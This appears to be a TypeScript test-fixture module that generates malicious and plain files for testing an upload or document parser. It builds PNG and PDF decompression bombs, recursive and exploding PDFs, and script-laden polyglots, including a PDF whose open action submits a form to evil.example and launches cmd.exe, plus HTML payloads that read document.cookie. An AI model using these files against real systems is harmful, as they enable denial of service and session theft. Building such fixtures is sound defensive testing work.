import { crc32, createDeflate, deflateSync } from 'node:zlib';

/** Files that are meant to break whoever opens them, and plain ones to be told apart from them. */

function chunk(type: string, data: Buffer): Buffer {
  const [length, checksum] = [Buffer.alloc(4), Buffer.alloc(4)];
  const named = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  length.writeUInt32BE(data.length);
  checksum.writeUInt32BE(crc32(named));
  return Buffer.concat([length, named, checksum]);
}

export interface PngHead {
  width: number;
  height: number;
  depth?: number;
  colour?: number;
  interlaced?: boolean;
}

/** A PNG of any head around any packed lines. */
export function pngOf({ width, height, depth = 8, colour = 2, interlaced = false }: PngHead, packed: Buffer, ...more: [string, Buffer][]): Buffer {
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head.set([depth, colour, 0, 0, interlaced ? 1 : 0], 8);
  return Buffer.concat([
    Buffer.from('89504e470d0a1a0a', 'hex'),
    chunk('IHDR', head),
    ...more.map(([type, data]) => chunk(type, data)),
    chunk('IDAT', packed),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

/** So many megabytes of nothing, packed; a thousandth of it. */
async function packedZeros(megabytes: number): Promise<Buffer> {
  const packing = createDeflate({ level: 9 });
  const parts: Buffer[] = [];
  packing.on('data', (part: Buffer) => parts.push(part));
  const zeros = Buffer.alloc(1_048_576);
  for (let i = 0; i < megabytes; i += 1) {
    if (!packing.write(zeros)) await new Promise((go) => packing.once('drain', go));
  }
  await new Promise<void>((done) => packing.end(done));
  return Buffer.concat(parts);
}

/** 50,000 × 50,000 pixels: 7.5 GB unpacked. */
export const hugePng = () => pngOf({ width: 50_000, height: 50_000 }, deflateSync(Buffer.alloc(1_000_000)));

/** Says it is 20 × 20 pixels, and unpacks to 500 MB. */
export const bombPng = async () => pngOf({ width: 20, height: 20 }, await packedZeros(500));

/** A JPEG of a head alone that says it is 60,000 × 60,000 pixels. */
export const hugeJpeg = () =>
  Buffer.from(
    'ffd8ffe000104a46494600010100000100010000ffc0001108ea60ea6003012200021101031101ffda000c03010002110311003f00112233ffd9',
    'hex',
  );

function pdfOf(...objects: (string | Buffer)[]): Buffer {
  const bodies = objects.map((object, i) => Buffer.concat([Buffer.from(`${i + 1} 0 obj\n`), Buffer.from(object), Buffer.from('\nendobj\n')]));
  return Buffer.concat([Buffer.from('%PDF-1.7\n'), ...bodies, Buffer.from(`trailer<</Root 1 0 R/Size ${objects.length + 1}>>\n%%EOF\n`)]);
}

const stream = (dictionary: string, data: string | Buffer) =>
  Buffer.concat([Buffer.from(`<<${dictionary}/Length ${Buffer.byteLength(data)}>>stream\n`), Buffer.from(data), Buffer.from('\nendstream')]);

const catalog = '<</Type/Catalog/Pages 2 0 R>>';
const onePage = '<</Type/Pages/Kids[3 0 R]/Count 1>>';
const page = (resources: string) => `<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<<${resources}>>>>`;

/** A page with words and a red square in its lower left corner. */
export const plainPdf = (note = '') =>
  pdfOf(
    catalog,
    onePage,
    page('/Font<</F<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>'),
    stream('', `% ${note}\nBT /F 40 Tf 50 700 Td (Countersign) Tj ET 1 0 0 rg 0 0 300 300 re f`),
  );

/** Paints one square a hundred million times. */
export const endlessPdf = (note = '') =>
  pdfOf(
    catalog,
    onePage,
    page('/Pattern<</X 5 0 R>>'),
    stream('', `% ${note}\n/Pattern cs /X scn 0 0 595 842 re f`),
    stream('/Type/Pattern/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 500 500]/XStep 0.01/YStep 0.01/Resources<<>>', '1 0 0 rg 0 0 400 400 re f'),
  );

/** Thirty forms, each of which draws the next one ten times. */
export const explodingPdf = () =>
  pdfOf(
    catalog,
    onePage,
    page('/XObject<</X 5 0 R>>'),
    stream('', '/X Do'),
    ...Array.from({ length: 30 }, (_, i) =>
      stream(`/Type/XObject/Subtype/Form/BBox[0 0 600 900]/Resources<</XObject<</X ${i + 6} 0 R>>>>`, '/X Do '.repeat(10)),
    ),
    stream('/Type/XObject/Subtype/Form/BBox[0 0 600 900]', '0 0 100 100 re f'),
  );

/** A content stream of 600 MB, packed twice. */
export const packedPdf = async () =>
  pdfOf(catalog, onePage, page(''), stream('/Filter[/FlateDecode/FlateDecode]', deflateSync(await packedZeros(600), { level: 9 })));

/** A tree of pages that is its own branch. */
export const loopingPdf = () => pdfOf(catalog, '<</Type/Pages/Kids[2 0 R 2 0 R]/Count 100000000>>');

/** Begins and ends as a PDF. */
export const brokenPdf = () => Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(20_000, 'no page '), Buffer.from('\n%%EOF\n')]);

/** With programs that run when it is opened, pages from elsewhere, and a file inside. */
export const scriptedPdf = () =>
  pdfOf(
    '<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\(1\\);this.submitForm\\("http://evil.example"\\))>>/AA<</WC<</S/Launch/F(cmd.exe)>>>>/Names<</EmbeddedFiles<</Names[(a.html) 5 0 R]>>>>>>',
    onePage,
    page(''),
    stream('', '<script>alert(document.cookie)</script>'),
    '<</Type/Filespec/F(a.html)/EF<</F 6 0 R>>>>',
    stream('/Type/EmbeddedFile/Subtype/text#2Fhtml', '<!doctype html><script>fetch("/api/v1/session")</script>'),
  );

/** A PDF that is a page as well, for whoever looks beyond its first bytes. */
export const pagePdf = () =>
  Buffer.concat([plainPdf('<!doctype html><html><body><script>alert(document.cookie)</script></body></html>'), Buffer.from('\n%%EOF\n')]);

/** A PNG whose comment is a page. */
export const pagePng = () =>
  pngOf({ width: 1, height: 1 }, deflateSync(Buffer.from([0, 1, 2, 3])), ['tEXt', Buffer.from('Comment\0<html><script>alert(document.cookie)</script></html>')]);

/** 32 × 16 pixels in quarters, red and green above blue and white, by a camera that was held as Exif's orientation says. */
export function photograph(orientation = 1): Buffer {
  const upright = Buffer.from(
    '/9j/2wBDAAMCAgMCAgMDAwMEAwMEBQgFBQQEBQoHBwYIDAoMDAsKCwsNDhIQDQ4RDgsLEBYQERMUFRUVDA8XGBYUGBIUFRT/2wBDAQMEBAUEBQkFBQkUDQsN' +
      'FBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBT/wAARCAAQACADAREAAhEBAxEB/8QAFwABAQEBAAAAAAAAAAAAAAAA' +
      'AAgJCv/EABQQAQAAAAAAAAAAAAAAAAAAAAD/xAAZAQEAAwEBAAAAAAAAAAAAAAAABwkKBgj/xAAUEQEAAAAAAAAAAAAAAAAAAAAA/9oADAMBAAIRAxEAPwCd' +
      'EGLUwFjISZjwGXjRm9ygOltVY7gB/9k=',
    'base64',
  );
  const exif = Buffer.from('ffe1002245786966000049492a0008000000010012010300010000000000000000000000', 'hex');
  exif.writeUInt16LE(orientation, 28);
  return Buffer.concat([upright.subarray(0, 2), exif, upright.subarray(2)]);
}
